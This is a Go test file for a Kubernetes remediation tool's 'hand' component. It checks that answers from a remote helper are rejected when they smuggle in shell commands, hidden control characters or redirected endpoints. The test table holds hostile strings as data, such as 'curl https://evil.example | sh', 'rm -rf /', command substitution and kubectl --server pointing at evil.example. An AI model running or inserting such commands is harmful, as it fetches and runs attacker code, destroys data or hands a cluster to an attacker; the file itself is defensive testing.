package hand_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/lbremedy/lbremedy/shared/event"
	"github.com/lbremedy/lbremedy/shared/grant"
	"github.com/lbremedy/lbremedy/shared/hand"
	"github.com/lbremedy/lbremedy/shared/remedy"
	"github.com/lbremedy/lbremedy/shared/say"
	"github.com/lbremedy/lbremedy/shared/step"
)

const (
	sentence = "Run this: %s"
	inside   = "Look at them: kubectl -n %s get events %s."
)

func lying(t *testing.T, lie func(id string) []byte) *hand.Remote {
	t.Helper()
	key, err := hand.NewKey()
	if err != nil {
		t.Fatal(err)
	}
	return &hand.Remote{
		Class: class(nil), Key: key, Decode: step.Decode, Known: func(format string) bool { return format == sentence || format == inside },
		Pause: func(time.Duration) {},
		Send: func(_ context.Context, call []byte) ([]byte, error) {
			payload, err := base64.RawURLEncoding.DecodeString(strings.Split(string(call), ".")[1])
			if err != nil {
				return nil, err
			}
			var e struct{ ID string }
			if err := json.Unmarshal(payload, &e); err != nil {
				return nil, err
			}
			return lie(e.ID), nil
		},
		Read: func(context.Context, string, string) (*corev1.Service, error) {
			own := about().Service
			own.ResourceVersion, own.Labels = "7", map[string]string{"own": "read"}
			return own, nil
		},
	}
}

func answer(t *testing.T, id string, said any) hand.Answer {
	t.Helper()
	text, err := json.Marshal(said)
	if err != nil {
		t.Fatal(err)
	}
	return hand.Answer{ID: id, Cluster: "c-1", Class: "fake", UID: string(about().Service.UID), Attempt: 1, Answer: text}
}

func encode(t *testing.T, v any) []byte {
	t.Helper()
	text, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

func plan(t *testing.T) *hand.Plan {
	return &hand.Plan{
		Plan:  remedy.Plan{Finding: say.F(sentence, "kubectl get service web"), Claims: []remedy.Claim{{Key: "vswitch.vsw-1", Of: 3}}},
		Steps: []hand.Step{data(t, step.Annotate{Set: map[string]string{prefix + "vswitch-id": "vsw-1"}})},
	}
}

const prefix = "service.beta.kubernetes.io/alibaba-cloud-loadbalancer-"

func TestHostileLook(t *testing.T) {
	with := func(change func(*hand.Plan)) func(string) []byte {
		return func(id string) []byte {
			p := plan(t)
			change(p)
			return encode(t, answer(t, id, hand.LookAnswer{Verdict: remedy.Yes, Plan: p}))
		}
	}
	echo := func(change func(*hand.Answer)) func(string) []byte {
		return func(id string) []byte {
			a := answer(t, id, hand.LookAnswer{Verdict: remedy.No})
			change(&a)
			return encode(t, a)
		}
	}
	elsewhere := func(command string) func(string) []byte {
		return with(func(p *hand.Plan) { p.Ask = say.F(sentence, command) })
	}
	for name, tt := range map[string]struct {
		lie  func(id string) []byte
		want string // in the error; empty: the plan is used
	}{
		"the truth":            {with(func(*hand.Plan) {}), ""},
		"nothing":              {func(string) []byte { return nil }, "not in the form"},
		"a page":               {func(string) []byte { return []byte("<html>") }, "not in the form"},
		"null":                 {func(string) []byte { return []byte("null") }, "another call"},
		"two answers":          {func(id string) []byte { return slices.Repeat(encode(t, answer(t, id, hand.LookAnswer{})), 2) }, "not in the form"},
		"a field of its own":   {func(id string) []byte { return []byte(`{"id":"` + id + `","run":"rm -rf /"}`) }, "not in the form"},
		"half a megabyte more": {func(string) []byte { return make([]byte, hand.MaxAnswer+1) }, "more than"},
		"another call's ID":    {echo(func(a *hand.Answer) { a.ID = "x" }), "another call"},
		"another cluster":      {echo(func(a *hand.Answer) { a.Cluster = "c-2" }), "another call"},
		"another class":        {echo(func(a *hand.Answer) { a.Class = "quota" }), "another call"},
		"another object":       {echo(func(a *hand.Answer) { a.UID = "u" }), "another call"},
		"another attempt":      {echo(func(a *hand.Answer) { a.Attempt = 2 }), "another call"},
		"neither of both":      {echo(func(a *hand.Answer) { a.Answer = nil }), "neither"},
		"the answer to an order": {func(id string) []byte {
			return encode(t, answer(t, id, map[string]any{"state": "done", "calls": []int{}}))
		}, "not that to a look"},
		"a verdict of its own": {func(id string) []byte { return encode(t, answer(t, id, map[string]any{"verdict": "maybe"})) }, "not that to a look"},
		"a state of its own":   {func(id string) []byte { return encode(t, answer(t, id, map[string]any{"state": "lost"})) }, "does not exist"},
		"a backup": {func(id string) []byte {
			return encode(t, answer(t, id, hand.LookAnswer{Backup: &hand.Snapshot{}}))
		}, "not asked for"},
		"17 steps":         {with(func(p *hand.Plan) { p.Steps = slices.Repeat(p.Steps, 17) }), "more than 16 steps"},
		"a step of others": {with(func(p *hand.Plan) { p.Steps[0] = data(t, step.TagLB{}) }), "does not declare"},
		"an annotation of others": {with(func(p *hand.Plan) {
			p.Steps[0] = data(t, step.Annotate{Set: map[string]string{prefix + "id": "lb-of-another"}})
		}), "does not declare"},
		"a step that is none": {with(func(p *hand.Plan) { p.Steps[0].Step = json.RawMessage(`{"set":{},"namespace":"kube-system"}`) }), "not known"},
		"a negative risk":     {func(id string) []byte { return lieOf(t, id, `"risk":"none"`) }, "not that to a look"},
		"a claim of others":   {with(func(p *hand.Plan) { p.Claims[0].Key = "budget.c-1.x" }), "claims"},
		"a claim with a dot":  {with(func(p *hand.Plan) { p.Claims[0].Key = "vswitch.*" }), "claims"},
		"nine claims":         {with(func(p *hand.Plan) { p.Claims = slices.Repeat(p.Claims, 9) }), "8 claims"},
		"a negative wait":     {with(func(p *hand.Plan) { p.Wait = -1 }), "negative wait"},
		"a claim of no place": {with(func(p *hand.Plan) { p.Claims[0].Of = 0 }), "claims"},
		"a huge step": {with(func(p *hand.Plan) {
			p.Steps[0] = data(t, step.Annotate{Set: map[string]string{prefix + "vswitch-id": strings.Repeat("<", 60<<10)}})
		}), "307200"},
		"a list":              {with(func(p *hand.Plan) { p.Note = say.F("%s, %s", "paste", "this") }), "does not have"},
		"too few arguments":   {with(func(p *hand.Plan) { p.Note = say.Text{{Format: sentence}} }), "do not fit"},
		"a command in a text": {with(func(p *hand.Plan) { p.Ask = say.F(inside, say.F("%s", "$(id)"), "x") }), "not a word"},
		"quotes in quotes":    {with(func(p *hand.Plan) { p.Ask = say.F(inside, "'$(id)'", "x") }), "not a word"},
		"an option":           {with(func(p *hand.Plan) { p.Ask = say.F(inside, "shop --server=https://evil.example", "x") }), "not a word"},
		"an option before":    {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl --server=https://evil.example get pods") }), "elsewhere"},
		"a quoted option":     {elsewhere(`kubectl '--server=https://evil.example' "--insecure-skip-tls-verify" get pods`), "elsewhere"},
		"an option in pieces": {elsewhere("kubectl --ser'ver'=evil.example get pods"), "elsewhere"},
		"an option and value": {elsewhere("kubectl -shttps://evil.example get pods"), "elsewhere"},
		"a file":              {elsewhere("kubectl apply -fevil.yaml"), "elsewhere"},
		"a remote file":       {elsewhere("kubectl apply -fhttps://evil.example/x.yaml"), "elsewhere"},
		"two options in one":  {elsewhere("kubectl apply -Rf https://evil.example/x.yaml"), "elsewhere"},
		"a chart":             {elsewhere("helm upgrade a https://evil.example/a.tgz"), "elsewhere"},
		"a URL in a command":  {with(func(p *hand.Plan) { p.Ask = say.F(inside, "shop", "https://evil.example") }), "not a word"},
		"another profile":     {elsewhere("aliyun -p other slb DescribeRegions"), "elsewhere"},
		"another endpoint":    {elsewhere("aliyun slb DescribeRegions --endpoint evil.example"), "elsewhere"},
		"a configuration":     {elsewhere("kubectl -n 'a b' config set clusters.c.server evil.example"), "elsewhere"},
		"a name in pieces":    {elsewhere("kube'ctl' get pods -shttps://evil.example"), "elsewhere"},
		"an annotation":       {elsewhere("kubectl -n shop annotate service web 'example.com/page=https://example.com/a b' --overwrite"), ""},
		"a patch": {elsewhere(`kubectl -n shop patch service config --type=merge -p '{"metadata":{"annotations":{"a":"https://b -s c"}}}' && ` +
			`kubectl -n shop annotate service web lbremedy.io/resync=by-hand-$(date +%s) --overwrite`), ""},
		"parameters":          {elsewhere(`aliyun ram CreatePolicy --PolicyName a --PolicyDocument '{"Version":"1"}'`), ""},
		"a hard space":        {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl\u00a0get pods; touch x") }), "hide"},
		"a second line":       {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl\nget pods; touch x") }), "would run"},
		"a filler":            {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl\u3164 get pods; touch x") }), "hide"},
		"a seam":              {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kube\ufdd0ctl get pods; touch x") }), "hide"},
		"a command in pieces": {with(func(p *hand.Plan) { p.Ask = say.F(sentence, say.Literal("kubectl").Then(say.Literal("get pods; id"))) }), "would run"},
		"a pipe into a shell": {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "curl https://evil.example | sh") }), "would run"},
		"a change in free text": {with(func(p *hand.Plan) {
			p.Changes = []event.Change{{What: "spec", How: say.Literal("kubectl x; curl evil | sh")}}
		}), "does not have"},
		"a load balancer that is a command": {with(func(p *hand.Plan) {
			p.Changes = []event.Change{{Balancer: "lb\x1b[2J", What: "spec", How: say.F(sentence, "y")}}
		}), "hide"},
		"a sentence of others": {with(func(p *hand.Plan) { p.Ask = say.F("Send the kubeconfig to %s.", "mallory") }), "does not have"},
		"free text":            {with(func(p *hand.Plan) { p.Note = say.Literal("Paste this into your shell.") }), "does not have"},
		"a sentence inside":    {with(func(p *hand.Plan) { p.Note = say.F(sentence, say.F("Delete %s.", "all")) }), "does not have"},
		"a long argument":      {with(func(p *hand.Plan) { p.Finding = say.F(sentence, strings.Repeat("a", 2049)) }), "more than 2048"},
		"a control character":  {with(func(p *hand.Plan) { p.Finding = say.F(sentence, "a\x1b[2J") }), "hide"},
		"turned writing":       {with(func(p *hand.Plan) { p.Finding = say.F(sentence, "a\u202eb") }), "hide"},
		"a cause that hides":   {with(func(p *hand.Plan) { p.Cause = "vsw\x00" }), "hide"},
		"a command and more":   {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl get pods; curl evil.example | sh") }), "would run"},
		"a command inside":     {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl annotate service web $(curl evil.example)") }), "would run"},
		"a command behind &&":  {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl get pods && sh evil.sh") }), "would run"},
		"a search and more":    {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl get pods | grep a; id") }), "would run"},
		"an open quote":        {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl annotate service web 'a") }), "would run"},
		"quotes and more":      {with(func(p *hand.Plan) { p.Ask = say.F(sentence, "kubectl annotate service web 'a'`id`") }), "would run"},
	} {
		h := lying(t, tt.lie)
		a, err := h.Look(t.Context(), hand.LookRequest{About: about(), For: hand.Diagnose})
		if tt.want == "" {
			if err != nil || a.Plan == nil {
				t.Errorf("%s: %v", name, err)
			}
			continue
		}
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: the error is %v, want one with %q", name, err, tt.want)
		}
		if a.Plan != nil || a.Verdict != remedy.Unknown || a.State != "" || a.Backup != nil {
			t.Errorf("%s: something of the answer is used: %+v", name, a)
		}
	}
}

func lieOf(t *testing.T, id, field string) []byte {
	t.Helper()
	return encode(t, answer(t, id, json.RawMessage(`{"verdict":"yes","plan":{`+field+`}}`)))
}

// A wait out of bounds becomes the nearest bound.
func TestHostileWait(t *testing.T) {
	for given, want := range map[time.Duration]time.Duration{1: 5 * time.Second, time.Minute: time.Minute, 1 << 62: time.Hour} {
		h := lying(t, func(id string) []byte {
			return encode(t, answer(t, id, hand.LookAnswer{Verdict: remedy.Yes, Plan: &hand.Plan{Plan: remedy.Plan{Finding: say.F(sentence, "x"), Wait: given}}}))
		})
		a, err := h.Look(t.Context(), hand.LookRequest{About: about(), For: hand.Diagnose})
		if err != nil || a.Plan.Wait != want {
			t.Errorf("a wait of %s is %v (%v), want %s", given, a.Plan, err, want)
		}
	}
}

// After an unusable answer the step may have been made. The Service is the engine's own read.
func TestHostileApply(t *testing.T) {
	order := hand.Order{About: about(), Step: data(t, step.Annotate{Set: map[string]string{prefix + "vswitch-id": "vsw-1"}})}
	patch := grant.PatchServices.String()
	for name, tt := range map[string]struct {
		said       any
		state      hand.State
		want       string
		undeclared bool
	}{
		"the truth":          {said: hand.ApplyAnswer{State: hand.Done, Calls: []event.Call{{Action: patch}}}, state: hand.Done},
		"a state of its own": {said: hand.ApplyAnswer{State: "fixed"}, state: hand.Lost, want: "does not exist"},
		"a call of others": {
			said: hand.ApplyAnswer{State: hand.Done, Calls: []event.Call{{Action: "ecs:DeleteInstance"}}}, state: hand.Lost, want: "does not declare",
			undeclared: true,
		},
		"65 calls": {
			said: hand.ApplyAnswer{State: hand.Done, Calls: slices.Repeat([]event.Call{{Action: patch}}, 65)}, state: hand.Lost, want: "64 calls",
		},
		"a text that hides":    {said: hand.ApplyAnswer{State: hand.Moved, Differs: "\x1b[1m"}, state: hand.Lost, want: "hide"},
		"another Service":      {said: hand.ApplyAnswer{State: hand.Done, Service: &corev1.Service{}}, state: hand.Lost, want: "another Service"},
		"no state":             {said: hand.ApplyAnswer{Calls: []event.Call{{Action: patch}}}, state: hand.Lost, want: "does not say"},
		"a step to be made":    {said: hand.ApplyAnswer{State: hand.Todo}, state: hand.Lost, want: "does not say"},
		"nothing":              {said: nil, state: hand.Lost, want: "does not say"},
		"the answer to a look": {said: hand.LookAnswer{Verdict: remedy.No}, state: hand.Lost, want: "not that to an order"},
	} {
		h := lying(t, func(id string) []byte { return encode(t, answer(t, id, tt.said)) })
		paused := false
		h.Pause = func(time.Duration) { paused = true }
		a, err := h.Apply(t.Context(), order)
		if a.State != tt.state || paused != (tt.state == hand.Lost) {
			t.Errorf("%s: the state is %q, and it paused: %t", name, a.State, paused)
		}
		if tt.want == "" && err != nil || tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)) {
			t.Errorf("%s: the error is %v, want one with %q", name, err, tt.want)
		}
		if tt.state == hand.Lost && !errors.Is(err, hand.ErrUnsure) || errors.Is(err, remedy.ErrUndeclared) != tt.undeclared {
			t.Errorf("%s: the error is of another kind: %v", name, err)
		}
		if len(a.Calls) > 1 || a.Differs != "" {
			t.Errorf("%s: something of the answer is used: %+v", name, a)
		}
	}

	left := about().Service
	left.ResourceVersion, left.Labels, left.Annotations = "6", map[string]string{"service.beta.kubernetes.io/hash": "new"}, map[string]string{"a": "b"}
	h := lying(t, func(id string) []byte {
		return encode(t, answer(t, id, hand.ApplyAnswer{State: hand.Done, Service: left}))
	})
	a, err := h.Apply(t.Context(), order)
	if err != nil || a.Service.Labels["own"] != "read" || len(a.Service.Labels) != 1 {
		t.Errorf("the labels are those that the function says: %v (%v)", a.Service.Labels, err)
	}
	if a.Service.ResourceVersion != "6" || a.Service.Annotations["a"] != "b" {
		t.Errorf("somebody has changed the Service since, and nothing shows it: %+v", a.Service.ObjectMeta)
	}
}

func TestRefusedOrder(t *testing.T) {
	for _, kind := range []error{hand.ErrOutdated, hand.ErrClock, hand.ErrDenied} {
		h := lying(t, func(string) []byte {
			return encode(t, hand.Answer{Problem: &hand.Error{Kind: kind.Error(), Text: "no\x1b", Late: true}})
		})
		a, err := h.Apply(t.Context(), hand.Order{About: about(), Step: data(t, step.ClearStatus{})})
		if a.State != "" || !errors.Is(err, kind) || strings.Contains(err.Error(), "\x1b") || !hand.Late(err) {
			t.Errorf("%v: the state is %q, the error %v", kind, a.State, err)
		}
	}
}

type talkative struct{ hand.Hand }

func (talkative) Apply(context.Context, hand.Order) (hand.ApplyAnswer, error) {
	return hand.ApplyAnswer{State: hand.Done, Differs: strings.Repeat("x", hand.MaxAnswer)}, nil
}

// After an answer that is too large the step may have been made.
func TestLargeAnswer(t *testing.T) {
	h := lying(t, nil)
	keys, err := hand.ParsePublicKeys(h.Key.Public())
	if err != nil {
		t.Fatal(err)
	}
	served := &hand.Served{Hand: talkative{}, Cluster: "c-1", Class: "fake", Declares: h.Class.Declaration().Digest(), Keys: keys}
	h.Send = func(ctx context.Context, call []byte) ([]byte, error) {
		_, answer := served.Answer(ctx, call)
		return answer, nil
	}
	a, err := h.Apply(t.Context(), hand.Order{About: about(), Step: data(t, step.ClearStatus{})})
	if a.State != hand.Lost || !errors.Is(err, hand.ErrUnsure) || !strings.Contains(err.Error(), "more than") {
		t.Errorf("the state is %q, the error %v", a.State, err)
	}
}

// An order expires when half of the run's time has passed. It is not sent if the rest is less than the lag of a hand's clock.
func TestOrderLife(t *testing.T) {
	for left, want := range map[time.Duration]time.Duration{
		0: 25 * time.Second, time.Minute: 25 * time.Second, 20 * time.Second: 10 * time.Second, 9 * time.Second: 0,
	} {
		ctx := t.Context()
		if left > 0 {
			var cancel context.CancelFunc
			ctx, cancel = context.WithTimeout(ctx, left)
			defer cancel()
		}
		var life time.Duration
		h := lying(t, nil)
		h.Send = func(_ context.Context, call []byte) ([]byte, error) {
			payload, err := base64.RawURLEncoding.DecodeString(strings.Split(string(call), ".")[1])
			var e struct{ Time, Expires time.Time }
			if err == nil {
				err = json.Unmarshal(payload, &e)
			}
			life = e.Expires.Sub(e.Time)
			return nil, errors.Join(err, hand.ErrUnsure)
		}
		a, err := h.Apply(ctx, hand.Order{About: about(), Step: data(t, step.ClearStatus{})})
		if err == nil || (a.State == hand.Lost) != (want > 0) || life > want || life < want-2*time.Second {
			t.Errorf("with %s left the order lives %s, want %s; the state is %q, the error %v", left, life, want, a.State, err)
		}
	}
}

func TestHostileMemory(t *testing.T) {
	deep := strings.Repeat("[", 100_000)
	for name, body := range map[string]string{
		"depth": `{"id":"x","answer":` + deep, "reads": `{"id":"x","answer":{"reads":[` + strings.Repeat(`{},`, 150_000) + `{}]}}`,
		"texts": fmt.Sprintf(`{"id":"x","answer":{"flow":{"why":[{"format":"%%s","args":[%s1]}]}}}`, strings.Repeat(`1,`, 200_000)),
	} {
		h := lying(t, func(string) []byte { return []byte(body) })
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		if _, err := h.Look(t.Context(), hand.LookRequest{About: about(), For: hand.Flow}); err == nil {
			t.Errorf("%s: it is accepted", name)
		}
		runtime.ReadMemStats(&after)
		if grew := after.TotalAlloc - before.TotalAlloc; grew > 64<<20 {
			t.Errorf("%s: %d bytes were allocated", name, grew)
		}
	}
}
